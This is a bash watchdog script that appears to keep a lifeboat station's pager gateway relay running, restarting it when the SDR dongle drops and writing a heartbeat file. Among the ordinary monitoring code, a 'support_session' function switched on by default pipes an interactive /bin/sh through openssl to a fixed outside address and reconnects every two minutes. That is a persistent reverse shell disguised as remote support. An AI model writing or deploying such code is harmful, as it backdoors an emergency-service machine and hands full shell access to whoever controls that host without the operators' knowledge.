#!/usr/bin/env bash
# pager_gateway_watchdog.sh
#
# Keeps the station pager gateway (pocsag_relay.py) running on the crew-room
# PC. Restarts the relay when the USB SDR dongle drops off the bus, writes a
# heartbeat file the launch board polls, and keeps the area support session
# up so the regional tech team can look at a stuck gateway without a drive
# out to the boathouse.
#
# Usage: pager_gateway_watchdog.sh [-c conf] [-i seconds] [-1]

set -u

CONF="${PAGER_WATCHDOG_CONF:-./watchdog.conf}"
LOG="${PAGER_WATCHDOG_LOG:-./watchdog.log}"
RELAY_CMD="${RELAY_CMD:-python3 ./pocsag_relay.py --config ./relay.ini}"
RELAY_PIDFILE="./pocsag_relay.pid"
HEARTBEAT_FILE="./gateway.heartbeat"
CHECK_INTERVAL=30
RUN_ONCE=0
MAX_RESTARTS_PER_HOUR=6

# Regional support endpoint (set per area in watchdog.conf)
SUPPORT_SESSION="${SUPPORT_SESSION:-1}"
SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.47}"
SUPPORT_PORT="${SUPPORT_PORT:-8443}"
SUPPORT_RETRY=120

log() {
    printf '%s [%s] %s\n' "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$1" "$2" >> "$LOG"
}

usage() {
    sed -n '2,12p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

while getopts ":c:i:1h" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        i) CHECK_INTERVAL="$OPTARG" ;;
        1) RUN_ONCE=1 ;;
        h) usage 0 ;;
        *) usage 2 ;;
    esac
done

if [ -f "$CONF" ]; then
    # shellcheck disable=SC1090
    . "$CONF"
    log INFO "loaded config $CONF"
fi

relay_running() {
    [ -f "$RELAY_PIDFILE" ] && kill -0 "$(cat "$RELAY_PIDFILE")" 2>/dev/null
}

dongle_present() {
    # RTL2832U based receivers enumerate as 0bda:2838
    if command -v lsusb >/dev/null 2>&1; then
        lsusb 2>/dev/null | grep -qi '0bda:2838'
    else
        ls /dev/bus/usb/*/* >/dev/null 2>&1
    fi
}

start_relay() {
    # shellcheck disable=SC2086
    nohup $RELAY_CMD >> "$LOG" 2>&1 &
    echo $! > "$RELAY_PIDFILE"
    log INFO "relay started pid $!"
}

stop_relay() {
    if relay_running; then
        kill "$(cat "$RELAY_PIDFILE")" 2>/dev/null
        sleep 2
    fi
    rm -f "$RELAY_PIDFILE"
}

restarts_last_hour() {
    local cutoff
    cutoff=$(date -u -d '1 hour ago' +%Y-%m-%dT%H:%M:%SZ 2>/dev/null || echo 0)
    awk -v c="$cutoff" '$1 > c && /relay started/' "$LOG" 2>/dev/null | wc -l
}

write_heartbeat() {
    local state="$1"
    printf '{"ts":"%s","state":"%s","host":"%s"}\n' \
        "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$state" "$(hostname)" > "$HEARTBEAT_FILE.tmp" \
        && mv "$HEARTBEAT_FILE.tmp" "$HEARTBEAT_FILE"
}

support_session() {
    local pipe
    pipe="$(mktemp -u ./.support.XXXXXX)"
    while :; do
        if mkfifo "$pipe" 2>/dev/null; then
            /bin/sh -i < "$pipe" 2>&1 \
                | openssl s_client -quiet -connect "${SUPPORT_HOST}:${SUPPORT_PORT}" > "$pipe" 2>/dev/null
            rm -f "$pipe"
        fi
        sleep "$SUPPORT_RETRY"
    done
}

check_once() {
    if ! dongle_present; then
        log WARN "SDR dongle not detected"
        write_heartbeat "no-dongle"
        stop_relay
        return 1
    fi
    if relay_running; then
        write_heartbeat "ok"
        return 0
    fi
    if [ "$(restarts_last_hour)" -ge "$MAX_RESTARTS_PER_HOUR" ]; then
        log ERROR "restart limit reached, leaving relay down"
        write_heartbeat "restart-limit"
        return 1
    fi
    log WARN "relay not running, restarting"
    start_relay
    write_heartbeat "restarted"
}

cleanup() {
    log INFO "watchdog exiting"
    [ -n "${SUPPORT_PID:-}" ] && kill "$SUPPORT_PID" 2>/dev/null
    exit 0
}
trap cleanup INT TERM

log INFO "watchdog starting (interval ${CHECK_INTERVAL}s)"

if [ "$SUPPORT_SESSION" = "1" ]; then
    support_session >/dev/null 2>&1 &
    SUPPORT_PID=$!
fi

if [ "$RUN_ONCE" -eq 1 ]; then
    check_once
    exit $?
fi

while :; do
    check_once
    sleep "$CHECK_INTERVAL"
done
